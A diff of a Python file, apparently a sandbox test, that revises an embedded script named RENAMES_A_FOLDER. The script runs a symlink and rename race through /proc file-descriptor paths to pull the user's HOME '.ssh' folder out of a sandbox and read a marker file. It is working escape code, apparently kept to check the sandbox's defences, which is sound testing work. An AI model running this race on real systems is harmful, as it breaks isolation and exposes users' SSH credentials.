@@ -62,11 +62,13 @@ RENAMES_A_FOLDER = """
 own, number = os.environ["TMPDIR"] + "/up", 0
 end = time.monotonic() + SECONDS
 def out():
-    pid = os.getppid() if number % 2 else "self"
-    return (f"/proc/{pid}/fd/{3 + number // 2 % 14}" if number % 5 else "") + HOME
+    pid = os.getppid() or "self"
+    return f"/proc/{pid}/fd/{8 + number % 4}" + HOME
 def swap():
-    steps = ((os.mkdir, own), (os.mkdir, own + "/.ssh"), (os.rmdir, own + "/.ssh"),
-             (os.rmdir, own), (lambda to: os.symlink(out(), to), own), (os.unlink, own))
+    wait = lambda _: time.sleep(5e-5)
+    steps = ((os.mkdir, own), (os.mkdir, own + "/.ssh"), (wait, own),
+             (os.rmdir, own + "/.ssh"), (os.rmdir, own), (lambda to: os.symlink(out(), to), own),
+             (wait, own), (os.unlink, own))
     while time.monotonic() < end:
         for step, name in steps:
             try: step(name)
@@ -74,17 +76,11 @@ def swap():
 threading.Thread(target=swap).start()
 while time.monotonic() < end:
     number += 1
-    got, new = f"{PROJECT}/got{number}", os.environ["TMPDIR"] + f"/new{number}"
-    try: os.mkdir(new)
+    got = f"{PROJECT}/got{number}"
+    try: os.rename(own + "/.ssh", got)
     except OSError: continue
-    for old, to in ((own + "/.ssh", got), (PROJECT + "/data", own + f"/data{number}"),
-                    (new, own + f"/new{number}")):
-        try: os.rename(old, to)
-        except OSError: pass
     if os.path.exists(got + "/mine.txt"):
         through("read " + open(got + "/mine.txt").read()); break
-    try: os.rmdir(new)
-    except OSError: pass
 """
 
 
